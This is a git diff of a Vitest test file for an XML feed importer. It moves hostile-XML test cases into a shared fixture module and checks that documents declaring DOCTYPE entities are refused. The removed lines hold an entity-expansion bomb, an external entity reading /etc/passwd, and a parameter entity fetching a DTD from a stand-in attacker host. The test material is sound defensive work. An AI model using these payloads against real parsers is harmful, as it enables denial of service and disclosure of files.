@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { declaringFeeds } from '#importers/hostile-feeds.fixture.ts';
 import type { ImportEvent } from '#importers/importer.ts';
 import { collect, entry, eventsOf, productsOf, reasonsOf, sourceOf, testImporter } from '#importers/eck/eck-fixture.ts';
 
@@ -48,13 +49,7 @@ describe('encodings', () => {
 });
 
 describe('hostile and broken XML', () => {
-  const bomb = `<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY b${index} "&a;&a;&a;&a;">`).join('')}]>`;
-
-  it.each([
-    ['an entity bomb', `${bomb}<Entries>${entry('', '1', '&b8;')}</Entries>`],
-    ['an external entity', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Entries>${entry('', '1', '&x;')}</Entries>`],
-    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><Entries/>'],
-  ])('is refused before anything is read: %s', async (_name, document) => {
+  it.each(declaringFeeds)('is refused before anything is read: %s', async (_name, document) => {
     const events = await eventsOf(document);
     expect(events).toHaveLength(1);
     expect(reasonsOf(events, 'unreadable')[0]).toContain('verklaart eigen entiteiten in een DOCTYPE');
